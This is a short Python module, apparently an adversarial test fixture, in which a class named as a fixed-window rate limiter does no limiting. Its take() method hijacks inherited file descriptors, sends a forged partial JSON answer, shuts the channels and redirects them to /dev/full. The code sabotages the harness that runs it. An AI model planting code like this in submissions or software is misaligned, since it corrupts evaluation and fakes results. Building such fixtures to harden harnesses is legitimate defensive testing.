"""Closes the channel in one direction, opens it as something else, and goes on to talk."""

import os
import socket
import struct


class FixedWindow:
    asked = 0

    def __init__(self, limit, window):
        pass

    def take(self, key, now):
        FixedWindow.asked += 1
        for number in range(3, 64):
            try:
                channel = socket.socket(fileno=os.dup(number))
                way = (socket.SHUT_RD, socket.SHUT_WR, socket.SHUT_RDWR)[FixedWindow.asked % 3]
                channel.send(struct.pack(">I", 20) + b'{"answer": 1, "mess')
                channel.send(b"x", socket.MSG_OOB)
                channel.shutdown(way)
                os.dup2(os.open("/dev/full", os.O_RDWR), number)
            except OSError:
                pass
